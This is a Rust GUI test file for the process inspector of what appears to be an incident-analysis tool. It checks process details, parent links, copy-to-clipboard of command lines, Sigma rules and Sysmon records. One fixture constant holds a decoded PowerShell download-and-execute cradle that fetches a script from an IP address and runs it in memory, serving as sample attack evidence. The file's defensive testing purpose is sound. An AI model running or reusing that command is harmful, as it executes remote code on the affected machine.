//! The inspector: who started it, what is copied, which rule matched.

use eframe::egui::Key;
use eframe::egui::accesskit::Role;
use egui_kittest::Node;
use egui_kittest::kittest::{NodeT as _, Queryable as _};

use crate::support::{self, CTRL, CTRL_SHIFT, NONE, Window};

const SHELL: &str = "powershell.exe, PID 11872";
const DECODED: &str = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/u.ps1')";

fn command_line(window: &Window) -> String {
    let session = window.state().session();
    let found = session.analysis().tree.iter().find(|(_, process)| process.pid == Some(11_872));
    found
        .and_then(|(_, process)| process.command_line.as_ref().map(String::from))
        .expect("it is logged")
}

/// The small command at the right of a section's title.
fn command_of<'a>(window: &'a Window, section: &str, name: &'a str) -> Node<'a> {
    let title = window
        .query_all_by_role(Role::Heading)
        .filter(|node| {
            node.accesskit_node().label().is_some_and(|label| label.starts_with(section))
        })
        .min_by(|left, right| left.rect().top().total_cmp(&right.rect().top()))
        .expect("the section");
    let middle = title.rect().center().y;
    let on_row = |node: &Node<'_>| (node.rect().center().y - middle).abs() < 4.0;
    window.query_all_by_role_and_label(Role::Button, name).find(on_row).expect("its command")
}

#[test]
fn it_says_who_ran_it_and_for_how_long() {
    let window = support::sample();
    window.get_by_role_and_label(Role::Heading, "powershell.exe 11872");
    assert!(support::says(&window, "14:21:07.412 to 15:02:55.090, ran for 41 min 47 s"));
    assert!(support::says(&window, "CONTOSO\\mlopez, medium integrity, session 1"));
    for said in ["hidden window", "no profile", "encoded", "downloads", "runs in memory"] {
        window.get_by_label(said);
    }
}

#[test]
fn the_parent_is_one_click_away() {
    let mut window = support::sample();
    support::click(&mut window, Role::Link, "Zoom.exe");
    assert_eq!(support::selected(&window), "Zoom.exe 9184");
    window.get_by_role_and_label(Role::Heading, "Zoom.exe 9184");
}

#[test]
fn copy_puts_the_command_line_on_the_clipboard_as_logged() {
    let mut window = support::sample();
    let expected = command_line(&window);
    assert!(expected.len() > 800, "the whole of it, not what is shown");
    let copied = support::click_to_copy(&mut window, |window| {
        command_of(window, "Command line as logged", "Copy")
    });
    assert_eq!(copied, expected);
    assert_eq!(support::press_to_copy(&mut window, CTRL, Key::C), Some(expected));
}

#[test]
fn what_it_really_runs_is_copied_by_button_and_by_key() {
    let mut window = support::sample();
    let copied =
        support::click_to_copy(&mut window, |window| command_of(window, "Decoded", "Copy"));
    assert_eq!(copied, DECODED);
    let copied = support::press_to_copy(&mut window, CTRL_SHIFT, Key::C);
    assert_eq!(copied.as_deref(), Some(DECODED));
}

#[test]
fn copying_works_after_a_click_into_the_tree() {
    let mut window = support::sample();
    support::click_row(&mut window, SHELL);
    let copied = support::press_to_copy(&mut window, CTRL_SHIFT, Key::C);
    assert_eq!(copied.as_deref(), Some(DECODED));
}

#[test]
fn the_rule_is_copied_as_sigma() {
    let mut window = support::sample();
    let copied =
        support::click_to_copy(&mut window, |window| command_of(window, "Matched rule", "Sigma"));
    for line in ["title: Suspicious Zoom Child Process", "logsource:", "detection:", "condition:"] {
        assert!(
            copied.lines().any(|found| found.trim_start().starts_with(line)),
            "{line}: {copied}"
        );
    }
}

#[test]
fn a_record_unfolds_to_its_fields_and_is_copied_as_json() {
    let mut window = support::sample();
    let record = |window: &Window| {
        let node = window.get_by_role_and_label(Role::Button, "Sysmon 1, record 48210");
        node.scroll_to_me();
    };
    record(&window);
    window.step();
    window.run_steps(3);
    support::click(&mut window, Role::Button, "Sysmon 1, record 48210");
    assert!(support::says(
        &window,
        "ParentImage: C:\\Users\\mlopez\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe"
    ));
    window.get_by_role_and_label(Role::Button, "Copy record as JSON").scroll_to_me();
    window.step();
    window.run_steps(3);
    let copied = support::click_to_copy(&mut window, |window| {
        window.get_by_role_and_label(Role::Button, "Copy record as JSON")
    });
    assert!(copied.trim_start().starts_with('{') && copied.contains("48210"), "{copied}");
}

#[test]
fn the_inspector_can_be_put_away() {
    let mut window = support::sample();
    support::press(&mut window, CTRL, Key::I);
    assert!(window.query_by_role_and_label(Role::Heading, "powershell.exe 11872").is_none());
    support::press(&mut window, CTRL, Key::I);
    window.get_by_role_and_label(Role::Heading, "powershell.exe 11872");
}

#[test]
fn a_file_of_the_evidence_is_shown() {
    let mut window = support::sample();
    support::click(&mut window, Role::Link, "9 files");
    window.get_all_by_role(Role::MenuItem).next().expect("a file").click();
    window.step();
    window.run_steps(3);
    assert!(support::says(&window, "What was read"));
    support::press(&mut window, NONE, Key::N);
    assert_ne!(support::selected(&window), "");
}
